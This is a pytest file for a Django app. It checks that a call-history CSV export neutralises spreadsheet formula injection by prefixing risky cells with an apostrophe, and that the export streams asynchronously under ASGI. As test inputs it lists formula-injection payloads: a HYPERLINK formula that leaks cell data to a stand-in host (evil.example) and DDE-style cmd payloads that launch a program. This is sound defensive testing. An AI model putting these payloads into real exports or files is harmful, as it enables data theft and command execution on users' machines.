"""The call-history CSV never hands a spreadsheet a formula: a caller-ID name, a note or a
disposition that starts with ``= + - @``, a tab or a carriage return is quoted with a
leading apostrophe, while E.164 numbers stay as they are. Under ASGI the export is an
asynchronous stream read through a database cursor."""

from __future__ import annotations

import csv
import io

import pytest
from asgiref.sync import sync_to_async
from django.db import connections
from django.test import AsyncClient

from tests.support.people import call_make

pytestmark = pytest.mark.django_db

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def test_every_formula_cell_is_quoted(agent_client, agent):
    for payload in PAYLOADS:
        call_make(agent, from_name=payload, notes=payload, to_name="Plain name")
    response = agent_client.get("/calls/export.csv")
    assert response.status_code == 200
    rows = _rows(b"".join(response.streaming_content).decode())
    assert len(rows) == len(PAYLOADS)
    assert sorted(r["from_name"] for r in rows) == sorted("'" + p for p in PAYLOADS)
    assert sorted(r["notes"] for r in rows) == sorted("'" + p for p in PAYLOADS)
    for row in rows:
        # What a spreadsheet would evaluate: nothing starts like a formula any more.
        for value in row.values():
            assert not value.startswith(("=", "-", "@", "\t", "\r")) or value == ""
            assert not value.startswith("+") or value[1:].isdigit()
        assert row["to_name"] == "Plain name"
        assert row["from_number"] == "+16504445567"  # an E.164 number is left alone


@pytest.mark.django_db(transaction=True)
async def test_under_asgi_the_export_is_an_asynchronous_stream(agent):
    try:
        await sync_to_async(call_make)(agent, from_name="=1+1", notes="note")
        client = AsyncClient()
        await client.aforce_login(agent.user)
        response = await client.get("/calls/export.csv")
        assert response.status_code == 200
        assert response.is_async, "a synchronous body is read whole into memory under ASGI"
        text = b"".join([chunk async for chunk in response.streaming_content]).decode()
        assert [r["from_name"] for r in _rows(text)] == ["'=1+1"]
    finally:
        # The database thread of sync_to_async keeps its connection otherwise.
        await sync_to_async(connections.close_all)()
